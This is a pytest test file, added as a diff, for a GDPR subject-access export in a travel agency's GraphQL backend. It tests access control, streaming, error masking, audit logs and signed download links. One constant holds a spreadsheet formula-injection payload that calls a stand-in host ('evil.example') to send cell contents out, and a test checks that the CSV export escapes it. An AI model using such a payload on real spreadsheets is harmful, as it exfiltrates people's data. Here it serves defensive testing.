@@ -1,0 +1,414 @@
+"""subjectAccessExport (Art. 15 + 20): complete, DPO only, streamable, masked, and its signed downloads."""
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+from dataclasses import dataclass
+from datetime import date, datetime, timedelta
+from email.message import Message
+from typing import Any
+
+import httpx
+import pytest
+from tortoise.transactions import in_transaction
+
+from auth import export_links
+from auth.export_links import ExportLink
+from models import AuditEvent, ConsentPurpose, ConsentRecord, Contact, Traveler, TravelRequest, Visibility
+from models.enums import RequestStatus
+from resolvers import deletion, export
+from resolvers.clock import now
+from tests.conftest import SECRET
+from tests.world import World, gid, make_world
+
+EXPORT = """query($id: ID!) { subjectAccessExport(contactId: $id) {
+  generatedAt csvUrl jsonUrl rightsNotice
+  contact { id kind visibility restricted createdAt lastActivityAt firstName lastName email phone birthDate address
+            notes owner { name email } consents { purpose granted since } }
+  requests { id status destination departureDate returnDate travelerCount budgetCents createdAt lastActivityAt notes
+             advisor { name email } travelers { firstName lastName birthDate } }
+  consentHistory { id purpose granted recordedAt source wording recordedBy }
+  accessLog { id at actor action contactId detail }
+} }"""
+STREAMED = """query($id: ID!) { subjectAccessExport(contactId: $id) {
+  contact { firstName } requests @stream(initialCount: 1) { id destination travelers { firstName } }
+} }"""
+LINKS = "query($id: ID!) { subjectAccessExport(contactId: $id) { csvUrl jsonUrl } }"
+MULTIPART = "multipart/mixed;deferSpec=20220824, application/json"
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1)'
+
+
+@dataclass
+class Person:
+    contact: Contact
+    requests: list[TravelRequest]
+    consents: list[ConsentRecord]
+
+    @property
+    def id(self) -> str:
+        return gid("Contact", self.contact.id)
+
+
+@pytest.fixture
+async def world(client) -> World:  # noqa: ANN001
+    return await make_world()
+
+
+@pytest.fixture
+async def person(world: World) -> Person:
+    """Éloïse Müller: three requests (one with two companions), a consent granted then withdrawn."""
+    owner = world.users["owner"]
+    at = now() - timedelta(days=3)
+    contact = await Contact.create(
+        agency=world.agency, owner=owner, team_id=owner.team_id, visibility=Visibility.ADVISOR,  # type: ignore[attr-defined]
+        first_name="Éloïse", last_name="Müller", email="eloise@example.fr", phone="+33 6 12 34 56 78",
+        birth_date=date(1985, 2, 14), address="12 rue de l'Église, 69001 Lyon", notes="Préfère le hublot",
+        created_at=at, last_activity_at=at, search_text="eloise muller",
+    )
+    requests = []
+    for i, (destination, notes) in enumerate([("Séville", "Lune de miel"), ("Kyōto", INJECTION), ("Reykjavík", None)]):
+        request = await TravelRequest.create(
+            agency=world.agency, contact=contact, advisor=owner, destination=destination, notes=notes,
+            status=RequestStatus.QUOTED if i == 0 else RequestStatus.NEW, departure_date=date(2031, 6, 1 + i),
+            return_date=date(2031, 6, 10 + i), traveler_count=3 if i == 0 else 1, budget_cents=450_000 if i == 0 else None,
+            created_at=at + timedelta(minutes=i), last_activity_at=at + timedelta(minutes=i),
+        )
+        requests.append(request)
+    await Traveler.create(request=requests[0], position=0, first_name="Zoé", last_name="Dupré", birth_date=date(2015, 3, 1))
+    await Traveler.create(request=requests[0], position=1, first_name="Noël", last_name="Müller")
+    consents = [
+        await ConsentRecord.create(contact=contact, purpose=ConsentPurpose.NEWSLETTER, granted=granted,
+                                   recorded_at=at + timedelta(hours=h), source=source, wording=wording,
+                                   recorded_by=owner.email)
+        for h, granted, source, wording in [
+            (1, True, "https://agence.example/contact", "J'accepte de recevoir la lettre d'information."),
+            (2, False, "phone call", "Ne souhaite plus recevoir la lettre."),
+        ]
+    ]
+    return Person(contact=contact, requests=requests, consents=consents)
+
+
+def multipart_parts(response: httpx.Response) -> list[dict[str, Any]]:
+    """The JSON payloads of a multipart/mixed body, part by part, each checked against its Content-Length."""
+    header = Message()
+    header["content-type"] = response.headers["content-type"]
+    assert header.get_content_type() == "multipart/mixed"
+    delimiter = b"--" + str(header.get_param("boundary")).encode()
+    body = response.content
+    assert body.startswith(delimiter)
+    rest, parts = body[len(delimiter):], []
+    while not rest.startswith(b"--"):  # the close delimiter is the boundary followed by "--"
+        assert rest.startswith(b"\r\n"), rest[:40]
+        end = rest.index(b"\r\n" + delimiter)
+        head, _, payload = rest[2:end].partition(b"\r\n\r\n")
+        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
+        assert fields["Content-Type"].startswith("application/json")
+        assert int(fields["Content-Length"]) == len(payload)
+        parts.append(json.loads(payload))
+        rest = rest[end + 2 + len(delimiter):]
+    return parts
+
+
+async def post_multipart(client, query: str, variables: dict, token: str) -> httpx.Response:  # noqa: ANN001
+    headers = {"Authorization": f"Bearer {token}", "Accept": MULTIPART}
+    response = await client.http.post("/graphql", json={"query": query, "variables": variables}, headers=headers)
+    assert response.status_code == 200, response.text
+    return response
+
+
+async def links(client, world: World, person: Person) -> dict[str, str]:  # noqa: ANN001
+    return (await client.data(LINKS, {"id": person.id}, world.tokens["dpo"]))["subjectAccessExport"]
+
+
+def path_of(url: str) -> str:
+    assert url.startswith("http://testserver/exports/"), url
+    return url.removeprefix("http://testserver")
+
+
+# -- the GraphQL export ---------------------------------------------------------------------------
+
+
+async def test_the_export_holds_what_was_stored(client, world: World, person: Person) -> None:
+    dpo = world.users["dpo"]
+    await client.data('mutation($id: ID!) { updateContact(id: $id, patch: {address: "1 quai Saint-Vincent"}) { address } }',
+                      {"id": person.id}, world.tokens["owner"])
+    await person.contact.refresh_from_db()
+    before = now()
+    data = (await client.data(EXPORT, {"id": person.id}, world.tokens["dpo"]))["subjectAccessExport"]
+
+    c = person.contact
+    owner = world.users["owner"]
+    assert data["contact"] == {
+        "id": person.id, "kind": "PROSPECT", "visibility": "ADVISOR", "restricted": False,
+        "createdAt": c.created_at.isoformat(), "lastActivityAt": c.last_activity_at.isoformat(),
+        "firstName": "Éloïse", "lastName": "Müller", "email": "eloise@example.fr", "phone": "+33 6 12 34 56 78",
+        "birthDate": "1985-02-14", "address": "1 quai Saint-Vincent", "notes": "Préfère le hublot",
+        "owner": {"name": owner.name, "email": owner.email},
+        "consents": [{"purpose": "NEWSLETTER", "granted": False, "since": person.consents[1].recorded_at.isoformat()}],
+    }
+    assert [r["id"] for r in data["requests"]] == [gid("TravelRequest", r.id) for r in person.requests]
+    for got, row in zip(data["requests"], person.requests, strict=True):
+        assert got["status"] == row.status.value and got["destination"] == row.destination
+        assert got["departureDate"] == row.departure_date.isoformat()  # type: ignore[union-attr]
+        assert got["returnDate"] == row.return_date.isoformat()  # type: ignore[union-attr]
+        assert (got["travelerCount"], got["budgetCents"], got["notes"]) == (row.traveler_count, row.budget_cents, row.notes)
+        assert got["createdAt"] == row.created_at.isoformat()
+        assert got["advisor"] == {"name": owner.name, "email": owner.email}
+    assert data["requests"][0]["travelers"] == [
+        {"firstName": "Zoé", "lastName": "Dupré", "birthDate": "2015-03-01"},
+        {"firstName": "Noël", "lastName": "Müller", "birthDate": None},
+    ]
+    assert data["requests"][1]["travelers"] == []
+    assert data["consentHistory"] == [
+        {"id": gid("ConsentRecord", r.id), "purpose": "NEWSLETTER", "granted": r.granted,
+         "recordedAt": r.recorded_at.isoformat(), "source": r.source, "wording": r.wording, "recordedBy": owner.email}
+        for r in person.consents
+    ]
+    # Newest first: this export, then what the owner's update did and saw.
+    log = data["accessLog"]
+    assert [(e["action"], e["actor"]) for e in log] == [
+        ("EXPORT", dpo.email), ("VIEW_PERSONAL", owner.email), ("UPDATE", owner.email)]
+    assert all(e["contactId"] == person.id for e in log)
+    assert log[2]["detail"] == "fields: address"
+    stored = await AuditEvent.filter(contact_ref=person.id).order_by("-id")
+    assert stored[0].action == "VIEW_PERSONAL" and stored[0].actor == dpo.email  # the export's own view, written last
+    assert [e["id"] for e in log] == [gid("AuditEvent", e.id) for e in stored[1:]]
+
+    generated = datetime.fromisoformat(data["generatedAt"])
+    assert before <= generated <= now()
+    assert path_of(data["csvUrl"]).endswith(".csv") and path_of(data["jsonUrl"]).endswith(".json")
+
+    # Art. 15(1)(a)-(h), in plain words.
+    notice = data["rightsNotice"]
+    for expected in [
+        "Agence A", "travel requests",  # controller and purposes
+        "identity: your contact record (first name, last name)", "birth date", "travel companions", "consent",
+        world.users["owner"].name, "data protection officer",  # recipients
+        "36 months",  # the agency's retention period
+        "access", "correct", "erase", "restrict", "portability", "object", "CNIL",
+        "https://agence.example/contact", "phone call",  # the sources recorded
+        "no profiling",
+    ]:
+        assert expected in notice, expected
+    assert "newsletter" not in notice.split("What data")[0]  # withdrawn: no longer a purpose
+
+    bare = await Contact.create(
+        agency=world.agency, owner=world.users["owner"], visibility=Visibility.AGENCY, first_name="Anna",
+        last_name="Berg", created_at=now(), last_activity_at=now(),
+    )
+    notice = (await client.data("query($id: ID!) { subjectAccessExport(contactId: $id) { rightsNotice } }",
+                                {"id": gid("Contact", bare.id)}, world.tokens["dpo"]))["subjectAccessExport"]["rightsNotice"]
+    assert "Where your data comes from: collected by the agency." in notice
+    assert "the agency's staff" in notice
+
+
+async def test_only_the_agencys_dpo_may_export(client, world: World, person: Person) -> None:
+    for position, code in [("owner", "FORBIDDEN"), ("mate", "FORBIDDEN"), ("admin", "FORBIDDEN"),
+                           ("foreign_dpo", "NOT_FOUND")]:
+        body = await client.post(EXPORT, {"id": person.id}, world.tokens[position])
+        assert body["data"] is None, position
+        assert [e["extensions"]["code"] for e in body["errors"]] == [code], position
+        assert "Éloïse" not in json.dumps(body, ensure_ascii=False)
+    assert not await AuditEvent.filter(action="EXPORT").exists()
+
+
+# -- incremental delivery ---------------------------------------------------------------------------
+
+
+async def test_requests_stream_part_by_part(client, world: World, person: Person, monkeypatch) -> None:  # noqa: ANN001
+    monkeypatch.setattr(export, "CHUNK", 2)  # several keyset reads for three requests
+    response = await post_multipart(client, STREAMED, {"id": person.id}, world.tokens["dpo"])
+    parts = multipart_parts(response)
+    assert len(parts) >= 2
+
+    first = parts[0]
+    assert first["hasNext"] is True and "errors" not in first
+    assert first["data"]["subjectAccessExport"]["contact"] == {"firstName": "Éloïse"}
+    items = list(first["data"]["subjectAccessExport"]["requests"])
+    assert len(items) == 1  # initialCount
+    (pending,) = first["pending"]
+    assert pending["path"] == ["subjectAccessExport", "requests"]
+
+    for part in parts[1:]:
+        assert "errors" not in json.dumps(part)
+        for increment in part.get("incremental", []):
+            assert increment["id"] == pending["id"]
+            items += increment["items"]
+    assert parts[-1]["hasNext"] is False
+    assert [c["id"] for p in parts for c in p.get("completed", [])] == [pending["id"]]
+    assert [i["id"] for i in items] == [gid("TravelRequest", r.id) for r in person.requests]
+    assert [i["destination"] for i in items] == ["Séville", "Kyōto", "Reykjavík"]
+    assert items[0]["travelers"] == [{"firstName": "Zoé"}, {"firstName": "Noël"}]
+
+
+async def test_errors_mid_stream_are_masked(client, world: World, person: Person, monkeypatch) -> None:  # noqa: ANN001
+    """The same unexpected failure, streamed and not: both answers say only "Unexpected error"."""
+    monkeypatch.setattr(export, "CHUNK", 1)
+    original, calls = export.requests_after, []
+
+    async def failing(*args: Any) -> list[TravelRequest]:
+        calls.append(args)
+        if len(calls) > 1:
+            raise RuntimeError("SELECT secret FROM contact WHERE first_name = 'Éloïse'")
+        return await original(*args)
+
+    monkeypatch.setattr(export, "requests_after", failing)
+    response = await post_multipart(client, STREAMED, {"id": person.id}, world.tokens["dpo"])
+    parts = multipart_parts(response)
+    assert len(parts[0]["data"]["subjectAccessExport"]["requests"]) == 1  # delivered before the failure
+    streamed = [e for p in parts for c in p.get("completed", []) for e in c.get("errors", [])]
+    streamed += [e for p in parts for i in p.get("incremental", []) for e in i.get("errors", [])]
+    assert len(calls) == 2
+
+    calls.clear()
+    body = await client.post(STREAMED.replace(" @stream(initialCount: 1)", ""), {"id": person.id}, world.tokens["dpo"])
+    assert body["data"] is None and len(calls) == 2
+    for errors, text in [(streamed, response.text), (body["errors"], json.dumps(body, ensure_ascii=False))]:
+        assert [(e["message"], e["extensions"]) for e in errors] == [("Unexpected error", {"code": "INTERNAL_SERVER_ERROR"})]
+        assert errors[0]["path"][:2] == ["subjectAccessExport", "requests"]
+        assert "SELECT" not in text and "secret" not in text and "RuntimeError" not in text
+
+
+async def test_late_frames_are_in_the_view_log(client, world: World, person: Person) -> None:
+    """A deferred fragment or a streamed item reveals personal data after the first frame: still logged, once."""
+    owner, dpo = world.users["owner"], world.users["dpo"]
+    hidden = world.contacts[Visibility.ADVISOR]
+    deferred = "query($id: ID!) { contact(id: $id) { id ... @defer { firstName email } } }"
+    parts = multipart_parts(await post_multipart(client, deferred, {"id": gid("Contact", hidden.id)}, world.tokens["owner"]))
+    assert parts[0]["data"] == {"contact": {"id": gid("Contact", hidden.id)}}
+    assert [i["data"] for p in parts[1:] for i in p.get("incremental", [])] == [
+        {"firstName": hidden.first_name, "email": hidden.email}]
+    views = AuditEvent.filter(action="VIEW_PERSONAL")
+    assert await views.values_list("actor", "contact_ref") == [(owner.email, gid("Contact", hidden.id))]
+
+    both = "query($id: ID!) { subjectAccessExport(contactId: $id) { contact { firstName } requests @stream { notes } } }"
+    await post_multipart(client, both, {"id": person.id}, world.tokens["dpo"])
+    assert await views.filter(actor=dpo.email).count() == 1  # the first frame's and the later ones': one event
+    late = "query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream { notes } } }"
+    await post_multipart(client, late, {"id": person.id}, world.tokens["dpo"])
+    assert await views.filter(actor=dpo.email).count() == 2
+
+
+# -- downloads ------------------------------------------------------------------------------------------
+
+
+async def test_csv_download_opens_in_a_spreadsheet(client, world: World, person: Person, monkeypatch) -> None:  # noqa: ANN001
+    urls = await links(client, world, person)
+    monkeypatch.setattr(export, "CHUNK", 2)
+    original, calls = export.requests_after, []
+
+    async def counted(*args: Any) -> list[TravelRequest]:
+        calls.append(args[-1])
+        return await original(*args)
+
+    monkeypatch.setattr(export, "requests_after", counted)
+    response = await client.http.get(path_of(urls["csvUrl"]))  # no Authorization header
+    assert response.status_code == 200
+    assert calls == [2, 2]  # keyset chunks, never the whole list
+    assert response.headers["content-type"].startswith("text/csv")
+    assert response.headers["content-disposition"].startswith("attachment;")
+    assert response.headers["cache-control"] == "no-store"
+    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [r["record_type"] for r in rows] == ["request"] * 3 + ["consent"] * 2
+    for row in rows:  # the person's data on every row, accents intact
+        assert (row["first_name"], row["last_name"], row["address"]) == ("Éloïse", "Müller", "12 rue de l'Église, 69001 Lyon")
+        assert row["phone"] == "'+33 6 12 34 56 78"  # a leading + would start a formula
+    requests = rows[:3]
+    assert [r["destination"] for r in requests] == ["Séville", "Kyōto", "Reykjavík"]
+    assert [r["request_id"] for r in requests] == [gid("TravelRequest", r.id) for r in person.requests]
+    assert requests[0]["travelers"] == "Zoé Dupré (2015-03-01); Noël Müller"
+    assert requests[0]["budget_cents"] == "450000" and requests[2]["budget_cents"] == ""
+    assert requests[1]["request_notes"] == "'" + INJECTION
+    assert all(r["consent_purpose"] == "" for r in requests)
+    consents = rows[3:]
+    assert [(r["consent_granted"], r["consent_source"]) for r in consents] == [
+        ("true", "https://agence.example/contact"), ("false", "phone call")]
+    assert consents[0]["consent_wording"] == "J'accepte de recevoir la lettre d'information."
+    assert all(r["request_id"] == "" for r in consents)
+
+    downloaded = await AuditEvent.filter(action="EXPORT").order_by("-id").first()
+    assert (downloaded.actor, downloaded.detail, downloaded.contact_ref) == (world.users["dpo"].email, "download csv", person.id)
+
+
+async def test_json_download_equals_the_graphql_export(client, world: World, person: Person) -> None:
+    exported = (await client.data(EXPORT, {"id": person.id}, world.tokens["dpo"]))["subjectAccessExport"]
+    response = await client.http.get(path_of(exported.pop("jsonUrl")))
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("application/json")
+    assert response.headers["content-disposition"].startswith("attachment;")
+    assert response.headers["cache-control"] == "no-store"
+    downloaded = json.loads(response.content)
+    del exported["csvUrl"]
+
+    # Each read the trail at its own moment: the download also sees what came after the GraphQL export,
+    # the DPO's view of it (written when that response ended) and the download itself.
+    assert downloaded["accessLog"][2:] == exported["accessLog"]
+    assert [(e["action"], e["detail"], e["actor"]) for e in downloaded["accessLog"][:2]] == [
+        ("EXPORT", "download json", world.users["dpo"].email), ("VIEW_PERSONAL", "", world.users["dpo"].email)]
+    assert datetime.fromisoformat(downloaded["generatedAt"]) >= datetime.fromisoformat(exported["generatedAt"])
+    for key in ("accessLog", "generatedAt"):
+        del downloaded[key], exported[key]
+    assert downloaded == exported
+
+
+async def test_a_tampered_link_gives_nothing(client, world: World, person: Person) -> None:
+    path = path_of((await links(client, world, person))["jsonUrl"])
+    token = path.removeprefix("/exports/").removesuffix(".json")
+    payload, signature = token.split(".")
+    body = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
+    other = world.contacts[Visibility.ADVISOR].id
+    forged = base64.urlsafe_b64encode(json.dumps({**body, "c": other}).encode()).decode().rstrip("=")
+    flipped = signature[:-1] + ("A" if signature[-1] != "A" else "B")
+    for bad in [f"{forged}.{signature}", f"{payload}.{flipped}", payload, "x.y", f"{payload}.{signature}x", "é"]:
+        response = await client.http.get(f"/exports/{bad}.json")
+        assert response.status_code == 403, bad
+        assert response.headers["cache-control"] == "no-store"
+        assert "Éloïse" not in response.text and "Prenom" not in response.text
+    assert not await AuditEvent.filter(detail__startswith="download").exists()
+    assert (await client.http.get(path)).status_code == 200  # the genuine link still works
+
+
+async def test_an_expired_link_gives_nothing(client, world: World, person: Person) -> None:
+    dpo = world.users["dpo"]
+    link = ExportLink(agency_id=world.agency.id, contact_id=person.contact.id, user_id=dpo.id, actor=dpo.email)
+    lifetime = timedelta(minutes=10)
+    expired = export_links.sign(SECRET, link, issued_at=now() - timedelta(minutes=11), lifetime=lifetime)
+    fresh = export_links.sign(SECRET, link, issued_at=now(), lifetime=lifetime)
+    for extension in ("csv", "json"):
+        response = await client.http.get(f"/exports/{expired}.{extension}")
+        assert response.status_code == 403
+        assert "Éloïse" not in response.text
+        assert (await client.http.get(f"/exports/{fresh}.{extension}")).status_code == 200
+
+
+def test_links_of_another_secret_are_refused() -> None:
+    link = ExportLink(agency_id=1, contact_id=2, user_id=3, actor="dpo@example.org")
+    token = export_links.sign("another-secret-" + "y" * 40, link, issued_at=now(), lifetime=timedelta(minutes=10))
+    with pytest.raises(export_links.InvalidLink):
+        export_links.verify(SECRET, token, at=now())
+    assert export_links.verify("another-secret-" + "y" * 40, token, at=now()) == link
+    with pytest.raises(ValueError):
+        export_links.sign("", link, issued_at=now(), lifetime=timedelta(minutes=10))
+
+
+async def test_a_link_dies_with_the_person_or_the_dpos_role(client, world: World, person: Person) -> None:
+    erased = path_of((await links(client, world, person))["csvUrl"])
+    other = world.contacts[Visibility.AGENCY]
+    revoked = path_of((await client.data(LINKS, {"id": gid("Contact", other.id)}, world.tokens["dpo"]))
+                      ["subjectAccessExport"]["jsonUrl"])
+    async with in_transaction() as conn:
+        await deletion.delete_contacts([person.contact.id], conn)
+    response = await client.http.get(erased)
+    assert response.status_code == 404
+    assert "Éloïse" not in response.text
+
+    dpo = world.users["dpo"]
+    dpo.active = False
+    await dpo.save(update_fields=["active"])
+    response = await client.http.get(revoked)
+    assert response.status_code == 403
+    assert other.first_name not in response.text
